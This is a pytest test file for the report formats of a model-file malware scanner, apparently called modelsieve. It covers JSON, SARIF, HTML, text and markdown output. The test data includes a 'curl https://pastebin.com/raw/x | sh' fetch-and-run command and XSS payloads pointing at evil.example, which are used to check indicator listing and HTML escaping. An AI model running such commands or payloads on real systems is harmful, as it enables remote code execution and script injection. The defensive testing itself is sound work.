"""Report formats: JSON (own schema), SARIF 2.1.0 (official schema), HTML (escaped), text."""

from __future__ import annotations

import dataclasses
import json
import re
from importlib.resources import files
from pathlib import Path

import jsonschema
import pytest
from reportfix import GETATTR, PARSE_ERROR, RCE, UNKNOWN_CALL, URL_INFO, Writer

from modelsieve.api import scan
from modelsieve.baseline import Baseline, Suppression
from modelsieve.model import Report
from modelsieve.options import ScanOptions
from modelsieve.report import html, jsonfmt, markdown, sarif, text
from modelsieve.rules.catalog import CATALOG

DATA = Path(__file__).resolve().parents[1] / "data"


@pytest.fixture
def repo_report(tmp_path: Path, write_fake: Writer) -> Report:
    repo = tmp_path / "repo"
    write_fake(repo / "clean.bin")
    write_fake(repo / "pytorch_model.bin", RCE, dict(GETATTR, members=["archive/data.pkl"], detail="memo 3"))
    write_fake(repo / "training_args.bin", GETATTR)
    write_fake(repo / "notes.bin", URL_INFO)
    write_fake(repo / "broken.pt", PARSE_ERROR)
    write_fake(repo / "sub" / "net.pt", UNKNOWN_CALL)
    suppressed = scan(repo, ScanOptions(jobs=1))
    net = next(r for r in suppressed.results if r.path.endswith("net.pt"))
    fp = net.findings[0].fingerprint
    assert net.sha256 is not None
    baseline = Baseline((Suppression(net.sha256, fp, "PKL003", "mypkg is our own package"),))
    return scan(repo, ScanOptions(jobs=1), baseline=baseline)


def test_json_report_validates_against_its_schema(repo_report: Report) -> None:
    schema = json.loads(files("modelsieve.report").joinpath("schema.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    doc = json.loads(jsonfmt.render(repo_report))
    jsonschema.Draft202012Validator(schema).validate(doc)
    assert doc["schema_version"] == jsonfmt.SCHEMA_VERSION
    assert schema["properties"]["schema_version"]["const"] == jsonfmt.SCHEMA_VERSION


def test_json_report_is_sorted_and_deterministic(repo_report: Report) -> None:
    first = jsonfmt.render(repo_report)
    assert first == jsonfmt.render(repo_report)
    doc = json.loads(first)

    def check_sorted(node: object) -> None:
        if isinstance(node, dict):
            assert list(node) == sorted(node)
            for v in node.values():
                check_sorted(v)
        elif isinstance(node, list):
            for v in node:
                check_sorted(v)

    check_sorted(doc)


def test_json_summary_lists_every_behaviour_and_indicator(repo_report: Report) -> None:
    doc = json.loads(jsonfmt.render(repo_report))
    values = {i["value"] for i in doc["summary"]["indicators"]}
    # The INFO-level URL is listed, whatever its severity.
    assert {"https://example.org/model-card", "https://pastebin.com/raw/x"} <= values
    assert any("curl" in i["value"] and i["kind"] == "command" for i in doc["summary"]["indicators"])
    assert any("runs shell command" in b["value"] for b in doc["summary"]["behaviours"])
    files_by_name = {Path(f["path"]).name: f for f in doc["files"]}
    assert files_by_name["pytorch_model.bin"]["loaded_by_default"] is True
    assert files_by_name["training_args.bin"]["loaded_by_default"] is False
    assert "training by-product" in files_by_name["training_args.bin"]["unloaded_reason"]
    net = files_by_name["net.pt"]
    assert net["findings"][0]["suppressed"] == "mypkg is our own package"
    assert net["verdict"] == "clean" and net["status"] == "false-positive"


@pytest.fixture(scope="module")
def sarif_validator() -> jsonschema.protocols.Validator:
    schema = json.loads((DATA / "sarif-schema-2.1.0.json").read_text(encoding="utf-8"))
    assert "sarif" in schema["title"].lower() and "2.1.0" in schema["title"]
    cls = jsonschema.validators.validator_for(schema)
    cls.check_schema(schema)
    return cls(schema, format_checker=cls.FORMAT_CHECKER)


def test_sarif_validates_against_the_official_schema(
    repo_report: Report, sarif_validator: jsonschema.protocols.Validator, tmp_path: Path
) -> None:
    doc = sarif.to_dict(repo_report, base_dir=tmp_path)
    sarif_validator.validate(doc)
    assert doc["version"] == "2.1.0"


def test_sarif_rules_come_from_the_catalog(repo_report: Report, tmp_path: Path) -> None:
    run = sarif.to_dict(repo_report, base_dir=tmp_path)["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    assert [r["id"] for r in rules] == list(CATALOG)
    pkl001 = next(r for r in rules if r["id"] == "PKL001")
    assert pkl001["name"] and re.match(r"^[A-Za-z0-9]+$", pkl001["name"])
    assert pkl001["helpUri"].endswith("#pkl001")
    assert pkl001["help"]["text"] and pkl001["shortDescription"]["text"] == CATALOG["PKL001"].title
    assert "external/cwe/cwe-502" in pkl001["properties"]["tags"]
    assert pkl001["properties"]["severity"] == "critical"
    assert pkl001["properties"]["security-severity"] == "9.5"
    assert pkl001["defaultConfiguration"]["level"] == "error"


def test_sarif_results_locations_fingerprints_and_suppressions(repo_report: Report, tmp_path: Path) -> None:
    run = sarif.to_dict(repo_report, base_dir=tmp_path)["runs"][0]
    results = run["results"]
    rce = next(r for r in results if r["ruleId"] == "PKL001")
    assert rce["level"] == "error"
    phys = rce["locations"][0]["physicalLocation"]
    assert phys["artifactLocation"]["uri"] == "repo/pytorch_model.bin"  # relative to the base folder
    assert phys["region"] == {"byteOffset": 42}
    finding = next(f for r in repo_report.results for f in r.findings if f.rule_id == "PKL001")
    assert rce["partialFingerprints"] == {sarif.FINGERPRINT_KEY: finding.fingerprint}
    assert rce["ruleIndex"] == list(CATALOG).index("PKL001")
    member = next(r for r in results if r["ruleId"] == "PKL005" and r["locations"][0].get("logicalLocations"))
    logical = member["locations"][0]["logicalLocations"]
    assert logical[0] == {"name": "archive/data.pkl", "fullyQualifiedName": "archive/data.pkl", "kind": "member"}
    # An offset inside an archive member is not a byte offset of the file on disk.
    assert "region" not in member["locations"][0]["physicalLocation"]
    assert member["properties"]["offset"] == 10
    suppressed = next(r for r in results if r["ruleId"] == "PKL003")
    assert suppressed["suppressions"] == [
        {"kind": "external", "status": "accepted", "justification": "mypkg is our own package"}
    ]
    unloaded = next(
        r for r in results if r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].endswith("args.bin")
    )
    assert "training by-product" in unloaded["properties"]["notLoadedByDefault"]
    artifacts = {a["location"]["uri"]: a for a in run["artifacts"]}
    assert artifacts["repo/pytorch_model.bin"]["properties"]["verdict"] == "malicious"
    assert len(artifacts["repo/pytorch_model.bin"]["hashes"]["sha-256"]) == 64
    assert run["properties"]["verdict"] == "malicious"


def test_sarif_uri_outside_base_is_an_absolute_file_uri(repo_report: Report, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    run = sarif.to_dict(repo_report, base_dir=elsewhere)["runs"][0]
    assert all(a["location"]["uri"].startswith("file:///") for a in run["artifacts"])


def test_html_escapes_hostile_strings(tmp_path: Path, write_fake: Writer) -> None:
    hostile = {
        "rule": "PKL001",
        "subject": "<img src=x onerror=alert(1)>",
        "message": "calls <script>alert('x')</script>",
        "evidence": '"><script>document.location="https://evil.example/"</script>',
        "behaviour": ["runs-command", "runs <b>bold</b>"],
        "indicators": [["url", "https://evil.example/<script>"]],
    }
    write_fake(tmp_path / "<script>.bin", hostile)
    page = html.render(scan(tmp_path, ScanOptions(jobs=1)))
    assert "<script" not in page.lower()
    assert "<img" not in page and "<b>bold" not in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "&lt;b&gt;bold&lt;/b&gt;" in page


def test_html_is_self_contained_and_readable(repo_report: Report) -> None:
    page = html.render(repo_report)
    assert page.startswith("<!DOCTYPE html>")
    assert not re.search(r"<(link|script|img|iframe)\b", page, re.I)
    assert "src=" not in page and "@import" not in page and "url(" not in page
    assert "Overall: Malicious" in page and "Suspected" in page
    for needle in ("pytorch_model.bin", "training_args.bin", "runs shell command", "https://example.org/model-card"):
        assert needle in page
    assert "PKL001" in page and "Known False Positive" in page
    assert "not read by standard loading" in page


def test_text_report_summary_lists_indicators_and_unloaded(repo_report: Report) -> None:
    out = text.render(repo_report)
    summary = out[out.index("Overall:") :]
    assert "MALICIOUS" in summary and "Suspected" in summary
    assert "https://example.org/model-card" in summary  # INFO-level indicator still listed
    assert "curl https://pastebin.com/raw/x | sh" in summary
    assert "not read by standard loading" in summary and "training_args.bin" in summary
    assert "[suppressed: mypkg is our own package]" in out
    assert "\x1b[" not in out  # colour is the CLI's business


def test_sarif_keeps_remote_uris() -> None:
    assert sarif._uri("hf://org/repo/pytorch_model.bin", Path("/")) == "hf://org/repo/pytorch_model.bin"


def test_markdown_report(repo_report: Report, tmp_path: Path, write_fake: Writer) -> None:
    md = markdown.render(repo_report)
    assert md.startswith("## modelsieve: 🛑 malicious (Suspected)")
    assert "`https://example.org/model-card`" in md and "### What loading would do" in md
    assert "training_args.bin" in md and "not read by standard loading" in md
    hostile = dict(RCE, indicators=[["url", "https://x.example/a|b`c"]])
    write_fake(tmp_path / "h" / "x.bin", hostile)
    md = markdown.render(scan(tmp_path / "h", ScanOptions(jobs=1)))
    row = next(line for line in md.splitlines() if "x.example" in line)
    assert row.count("|") == 4 and "`https://x.example/a¦b'c`" in row


def test_review_note_is_shown(repo_report: Report, tmp_path: Path) -> None:
    results = tuple(
        dataclasses.replace(r, review_note="checked by <alice>") if r.path.endswith("pytorch_model.bin") else r
        for r in repo_report.results
    )
    noted = dataclasses.replace(repo_report, results=results)
    assert "review: checked by <alice>" in text.render(noted)
    assert "checked by &lt;alice&gt;" in html.render(noted)
    artifacts = sarif.to_dict(noted, base_dir=tmp_path)["runs"][0]["artifacts"]
    assert any(a["properties"].get("reviewNote") == "checked by <alice>" for a in artifacts)


def test_text_and_markdown_show_other_tools_and_where_they_disagree(repo_report: Report) -> None:
    from modelsieve.model import ExternalVerdict, Verdict

    hub = "hf-hub"
    by_name = {Path(r.path).name: r for r in repo_report.results}
    evil, clean, notes = by_name["pytorch_model.bin"], by_name["clean.bin"], by_name["notes.bin"]
    assert evil.verdict is Verdict.MALICIOUS and clean.verdict is Verdict.CLEAN
    opinions = {
        evil.path: ExternalVerdict(hub, "safe", "scans done, file not listed with issues"),
        clean.path: ExternalVerdict(hub, "dangerous", "listed with issues (error)"),
        notes.path: ExternalVerdict(hub, "unscanned", "no status for this file"),
    }
    report = dataclasses.replace(
        repo_report,
        results=tuple(
            dataclasses.replace(r, external=(opinions[r.path],)) if r.path in opinions else r
            for r in repo_report.results
        ),
    )
    out = text.render(report)
    assert f"{hub} says: safe (scans done, file not listed with issues)" in out
    assert f"{hub} says: unscanned (no status for this file)" in out
    # The clean file is shown because the Hub calls it dangerous.
    assert f"clean        {clean.path}" in out
    tail = out[out.index("other tools disagree:") :]
    assert f"- {evil.path}: modelsieve malicious, {hub} safe" in tail
    assert f"- {clean.path}: modelsieve clean, {hub} dangerous (listed with issues (error))" in tail
    # A tool that did not scan a file disagrees with nothing.
    assert notes.path not in tail
    md = markdown.render(report)
    section = md[md.index("### Other tools disagree") :]
    assert "`hf-hub`" in section and "`safe`" in section and "`dangerous`" in section
    assert "notes.bin" not in section.split("### Files")[0]
    page = html.render(report)
    assert "<h2>Other tools disagree</h2>" in page and "hf-hub: unscanned (no status for this file)" in page
    # Without other opinions, no report has the section.
    for render in (text.render, markdown.render, html.render):
        assert "disagree" not in render(repo_report)
